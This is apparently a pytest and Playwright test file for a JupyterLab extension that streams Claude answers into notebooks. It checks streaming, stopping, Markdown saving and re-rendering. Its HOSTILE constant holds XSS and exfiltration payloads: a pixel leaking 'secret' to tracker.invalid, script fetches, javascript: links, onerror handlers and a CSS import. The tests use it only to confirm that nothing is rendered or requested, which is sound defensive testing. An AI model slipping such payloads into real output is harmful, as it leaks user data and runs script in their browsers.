"""An answer in the browser: it appears while it comes, can be stopped, is saved as Markdown, and reads the same later."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest
from playwright.sync_api import Page, expect
from support.asking import assert_durable
from support.kernel import ANSWER
from support.lab import Notebook

from claude_jupyter.demo.script import Say, Script, Wait

LOAD = "%load_ext claude_jupyter"
WORDS = [f"word{i:03d} " for i in range(120)]
MARKDOWN = """# The heading

Some *emphasis*, `code` and $x^2$.

| left | right |
|---|---|
| one | two |

```python
print("hello")
```
"""


@pytest.fixture(params=[True, False], ids=["extension", "widget"])
def extension(request: pytest.FixtureRequest) -> bool:
    """With our JupyterLab extension, and without: then the widget is the view."""
    return request.param


def saved_answer(notebook: Notebook, cell: int = 1):
    """Save; the one output of the cell, checked to be durable."""
    saved = notebook.save()
    answers = [o for o in saved.cells[cell].outputs if ANSWER in o.get("data", {})]
    assert len(answers) == 1, saved.cells[cell].outputs
    assert_durable(answers[0].data)
    assert "widgets" not in saved.metadata
    return answers[0].data


def test_text_appears_before_the_end_and_is_saved_as_markdown(service, open_notebook, extension):
    service(Script(pieces=(Say(chunks=tuple(WORDS)),)), pace=0.1)
    notebook = open_notebook([LOAD, "%%claude\nWrite some words."], extension=extension)
    notebook.run(0)
    notebook.start(1)
    expect(notebook.output(1)).to_contain_text("word003")
    assert notebook.is_running(1), "the text came only when all was over"
    expect(notebook.output(1)).not_to_contain_text("word119", timeout=1)
    notebook.wait_until_done(1)
    expect(notebook.output(1)).to_contain_text("word119")
    data = saved_answer(notebook)
    assert data["text/plain"].strip() == "".join(WORDS).strip()
    assert data[ANSWER]["complete"] is True
    assert notebook.watch.foreign == []
    assert notebook.watch.errors == []


def test_markdown_is_drawn_and_reads_the_same_in_a_fresh_server(
    service, open_notebook, jupyter, frontend, extension
):
    service(MARKDOWN)
    notebook = open_notebook([LOAD, "%%claude\nShow me."], extension=extension)
    notebook.run(0)
    notebook.run(1)
    assert_drawn(notebook)
    path = notebook.path
    saved_answer(notebook)
    for with_extension in (True, False):
        elsewhere = jupyter(frontend, extension=with_extension, elsewhere=True)
        copy = elsewhere.root / path.name
        copy.write_bytes(path.read_bytes())
        again = open_notebook(copy, elsewhere, kernel=False)
        assert_drawn(again)
        assert again.watch.foreign == []
        assert again.watch.errors == []


def assert_drawn(notebook: Notebook) -> None:
    """The heading, table, code and formula of `MARKDOWN` are on the page as such."""
    output = notebook.output(1)
    expect(output.get_by_role("heading", name="The heading")).to_be_visible()
    expect(output.get_by_role("cell", name="two")).to_be_visible()
    expect(output.locator("pre", has_text='print("hello")')).to_be_visible()
    expect(output.locator("em", has_text="emphasis").first).to_be_visible()
    expect(output.locator("mjx-container, .MathJax, .katex").first).to_be_visible()


def test_the_stop_button_stops_a_silent_stream(service, open_notebook, extension):
    server = service(Script(pieces=(Say(chunks=tuple(WORDS[:10])), Wait(60), Say("never"))))
    notebook = open_notebook([LOAD, "%%claude\nWrite some words.", "after = 1"], extension=extension)
    notebook.run(0)
    notebook.start(1)
    expect(notebook.output(1)).to_contain_text("word009")
    notebook.output(1).get_by_role("button", name=re.compile("stop", re.IGNORECASE)).click()
    notebook.wait_until_done(1)
    data = saved_answer(notebook)
    assert data["text/plain"].strip() == "".join(WORDS[:10]).strip()
    assert data[ANSWER]["complete"] is False
    assert "≥" in data["text/markdown"]
    assert server.requests[-1].gone or not server.requests[-1].finished
    assert not [e for e in notebook.watch.errors if "KeyboardInterrupt" not in e]


def test_the_toolbar_interrupts_an_answer(service, open_notebook):
    service(Script(pieces=(Say(chunks=tuple(WORDS[:10])), Wait(60))))
    notebook = open_notebook([LOAD, "%%claude\nWrite some words."])
    notebook.run(0)
    notebook.start(1)
    expect(notebook.output(1)).to_contain_text("word009")
    notebook.interrupt()
    notebook.wait_until_done(1)
    saved_answer(notebook)


def test_a_second_run_replaces_the_answer(service, open_notebook):
    service(["The first answer.", "The second answer."])
    notebook = open_notebook([LOAD, "%%claude\nSay something."])
    notebook.run(0)
    notebook.run(1)
    expect(notebook.output(1)).to_contain_text("The first answer.")
    notebook.run(1)
    expect(notebook.output(1)).to_contain_text("The second answer.")
    assert saved_answer(notebook)["text/plain"] == "The second answer."


HOSTILE = """Look: ![pixel](https://tracker.invalid/a.png?q=secret) and <img src="https://tracker.invalid/b.png" onerror="alert(1)">

<script>fetch('https://tracker.invalid/c')</script> [click](javascript:alert(2)) <iframe src="https://tracker.invalid/d"></iframe>

![ref][r] <style>@import url(https://tracker.invalid/e.css);</style> $\\href{javascript:alert(3)}{x}$

[r]: https://tracker.invalid/f.png
"""


def test_showing_an_answer_asks_no_other_host(service, open_notebook, page: Page, extension):
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    service(
        Script(pieces=(Say(chunks=tuple(HOSTILE[i : i + 9] for i in range(0, len(HOSTILE), 9))),)), pace=0.02
    )
    notebook = open_notebook([LOAD, "%%claude\nShow me."], extension=extension)
    notebook.run(0)
    notebook.run(1)
    expect(notebook.output(1)).to_contain_text("Look:")
    page.wait_for_timeout(500)
    saved_answer(notebook)
    assert notebook.watch.foreign == []
    assert dialogs == []


def html_of(path: Path) -> Path:
    """What `jupyter nbconvert --to html` makes of a notebook."""
    command = [sys.executable, "-m", "nbconvert", "--to", "html", str(path)]
    subprocess.run(command, check=True, capture_output=True, stdin=subprocess.DEVNULL)
    return path.with_suffix(".html")


def requests_of(page: Page, html: Path) -> set[str]:
    """What the browser asks for when it shows the file."""
    asked: set[str] = set()
    page.on("request", lambda request: asked.add(request.url))
    page.goto(html.as_uri(), wait_until="domcontentloaded")
    page.wait_for_timeout(500)
    return {url for url in asked if not url.startswith(("file:", "data:", "blob:"))}


@pytest.mark.parametrize("frontend", ["lab"])
def test_nbconvert_html_reads_the_same_and_asks_nobody(service, open_notebook, page: Page, context, tmp_path):
    service(MARKDOWN + HOSTILE)
    notebook = open_notebook([LOAD, "%%claude\nShow me."])
    notebook.run(0)
    notebook.run(1)
    saved_answer(notebook)
    bare = tmp_path / "bare.ipynb"
    nbformat.write(nbformat.v4.new_notebook(), bare)
    usual = requests_of(context.new_page(), html_of(bare))
    shown = context.new_page()
    dialogs: list[str] = []
    shown.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    assert requests_of(shown, html_of(notebook.path)) - usual == set()
    assert dialogs == []
    expect(shown.get_by_role("heading", name="The heading")).to_be_visible()
    expect(shown.get_by_role("cell", name="two")).to_be_visible()
    expect(shown.locator("pre", has_text='print("hello")').last).to_be_visible()
    expect(shown.get_by_text("Claude", exact=True)).to_be_visible()  # not the author's own words
